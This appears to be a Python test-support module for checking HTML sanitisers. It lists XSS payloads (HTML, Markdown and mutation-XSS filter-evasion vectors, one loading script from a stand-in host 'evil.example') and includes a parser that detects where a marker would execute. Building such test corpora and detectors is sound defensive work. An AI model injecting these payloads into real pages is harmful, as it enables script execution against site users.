"""XSS vectors and a detector that says whether one of them would run in a page.

The vectors are a standard set (OWASP's filter evasion cheat sheet and PortSwigger's list, trimmed
to what differs for an HTML parser), each calling `alert("MARK")` with a marker the detector looks
for. The detector parses the page the way a browser tokenizes it and reports every place where
the marker sits in executable position: a script element that runs, an `on*` handler, a
`javascript:` URL in any URL attribute, a frame or object loading script, a meta refresh.
"""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

MARK = "XSS_MARK_7f3a"

HTML_VECTORS = [
    f'<script>alert("{MARK}")</script>',
    f"<SCRIPT SRC=//evil.example/{MARK}.js></SCRIPT>",
    f'<img src=x onerror=alert("{MARK}")>',
    f"<img src=x onerror=&#97;lert('{MARK}')>",
    f'<svg onload=alert("{MARK}")>',
    f'<svg><script>alert("{MARK}")</script></svg>',
    f"<iframe src=\"javascript:alert('{MARK}')\"></iframe>",
    f"<iframe srcdoc=\"<script>alert('{MARK}')</script>\"></iframe>",
    f"<a href=\"javascript:alert('{MARK}')\">click</a>",
    f"<a href=\"&#106;avascript:alert('{MARK}')\">click</a>",
    f"<a href=\" JaVaScRiPt:alert('{MARK}')\">click</a>",
    f'"><script>alert("{MARK}")</script>',
    f"'><img src=x onerror=alert('{MARK}')>",
    f'</textarea><script>alert("{MARK}")</script>',
    f'</title><script>alert("{MARK}")</script>',
    f'</script><script>alert("{MARK}")</script>',
    f'<body onload=alert("{MARK}")>',
    f'<details open ontoggle=alert("{MARK}")>',
    f'<input autofocus onfocus=alert("{MARK}")>',
    f"<object data=\"javascript:alert('{MARK}')\"></object>",
    f"<embed src=\"javascript:alert('{MARK}')\">",
    f"<form action=\"javascript:alert('{MARK}')\"><button>go</button></form>",
    f"<button formaction=\"javascript:alert('{MARK}')\">go</button>",
    f'<meta http-equiv="refresh" content="0;url=javascript:alert(\'{MARK}\')">',
    f"<base href=\"javascript:alert('{MARK}')//\">",
    f"<div style=\"background:url(javascript:alert('{MARK}'))\">x</div>",
]

#: Markdown that a careless renderer turns into script; only meaningful where Markdown is rendered.
MARKDOWN_VECTORS = [
    f'[click](javascript:alert("{MARK}"))',
    f'[click](JaVaScRiPt:alert("{MARK}"))',
    f'[click](&#106;avascript:alert("{MARK}"))',
    f'[click](data:text/html,<script>alert("{MARK}")</script>)',
    f'![x](javascript:alert("{MARK}"))',
    f'<javascript:alert("{MARK}")>',
    f'[a](javascript&colon;alert("{MARK}"))',
]

#: Markup a browser re-parses differently from a simple tokenizer (mutation XSS): they matter where
#: markup is sanitised and serialised again, so they are tested against the sanitiser's output.
MUTATION_VECTORS = [
    f'<math><mtext><table><mglyph><style><img src=x onerror=alert("{MARK}")>',
    f"<noscript><p title=\"</noscript><img src=x onerror=alert('{MARK}')>\">",
    f'<scr<script>ipt>alert("{MARK}")</script>',
    f'<svg><style><img src=x onerror=alert("{MARK}")></style></svg>',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert('{MARK}')>",
]

ALL_VECTORS = HTML_VECTORS + MARKDOWN_VECTORS + MUTATION_VECTORS

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "background", "poster", "srcdoc"}
SCRIPT_TYPES = {"", "text/javascript", "application/javascript", "module", "text/ecmascript"}


def _is_script_url(value: str) -> bool:
    compact = re.sub(r"[\s\x00-\x1f]", "", html.unescape(value)).lower()
    return compact.startswith(("javascript:", "vbscript:", "data:text/html"))


class _Detector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.findings: list[str] = []
        self._script_runs = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        for name, value in values.items():
            if name.startswith("on") and MARK in value:
                self.findings.append(f"<{tag} {name}=...>")
            if name in URL_ATTRIBUTES and MARK in value and (_is_script_url(value) or name == "srcdoc"):
                self.findings.append(f"<{tag} {name}={value[:60]!r}>")
            if name == "style" and MARK in value and "javascript:" in value.lower():
                self.findings.append(f"<{tag} style=...javascript:>")
        if tag == "meta" and MARK in values.get("content", "") and "javascript:" in values["content"].lower():
            self.findings.append("<meta refresh to javascript:>")
        if tag == "script":
            script_type = values.get("type", "").strip().lower()
            self._script_runs = script_type in SCRIPT_TYPES
            if self._script_runs and MARK in values.get("src", ""):
                self.findings.append("<script src=...>")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag == "script":
            self._script_runs = False

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._script_runs = False

    def handle_data(self, data: str) -> None:
        if self._script_runs and MARK in data:
            self.findings.append("<script>...</script>")


def executable_markers(page: str) -> list[str]:
    """Where the marker would run if a browser loaded `page`; empty when it only shows as text."""
    detector = _Detector()
    detector.feed(page)
    detector.close()
    return detector.findings


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))


def elements(page: str) -> list[tuple[str, dict[str, str]]]:
    """Every element of `page`: its tag and attributes, as a browser's tokenizer would see them."""
    parser = _Elements()
    parser.feed(page)
    parser.close()
    return parser.elements
